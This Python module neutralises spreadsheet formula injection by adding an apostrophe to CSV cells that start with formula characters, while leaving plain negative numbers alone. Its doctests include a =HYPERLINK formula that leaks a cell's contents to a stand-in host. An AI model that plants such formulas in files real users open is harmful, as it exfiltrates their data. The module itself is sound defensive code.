"""Cells safe to open in a spreadsheet: every CSV (and any future xlsx) writer passes its
cells through :func:`safe_cell`.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (``=HYPERLINK(…)`` leaks data, ``@SUM(1;1)`` computes), and a leading tab or
carriage return can hide such a start. Such a cell gets a leading apostrophe, which the
spreadsheet shows as plain text (the OWASP «CSV injection» advice). One deliberate
exception: a cell that is a negative number and nothing else (``-12``, ``-0.5``) is left as
it is, so that it stays a number — digits alone cannot form a formula. ``+7`` is not a
number in that sense (a telephone number in the reports) and is neutralised.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")


def safe_cell(value: str) -> str:
    """The cell as a spreadsheet shows it as text, never running it.

    >>> [safe_cell(v) for v in ("=1+1", "+7(4812)38-41-01", "@SUM(1;1)", '=HYPERLINK("http://x/?"&A1;"a")')]
    ["'=1+1", "'+7(4812)38-41-01", "'@SUM(1;1)", '\\'=HYPERLINK("http://x/?"&A1;"a")']
    >>> [safe_cell(v) for v in ("\\t=1+1", "\\r=1", "-1+1", "-12", "-0.5", "Рудня", "", "a=b")]
    ["'\\t=1+1", "'\\r=1", "'-1+1", '-12', '-0.5', 'Рудня', '', 'a=b']
    """
    if value.startswith(FORMULA_STARTS) and not NEGATIVE_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row) -> list[str]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(str(cell)) for cell in row]
